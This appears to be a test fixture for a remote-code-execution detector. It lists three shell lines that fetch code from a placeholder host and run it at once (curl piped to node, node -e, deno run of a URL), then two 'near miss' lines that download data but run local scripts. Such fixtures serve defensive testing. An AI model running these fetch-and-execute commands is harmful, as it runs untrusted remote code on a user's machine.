curl -s https://a.invalid/s | node
node -e "$(curl -s https://a.invalid/s)"
deno run https://a.invalid/s.ts
# near misses
A=$(curl -s https://a.invalid/d); env V="$A" node server.cjs
curl -s https://a.invalid/d | node own.mjs
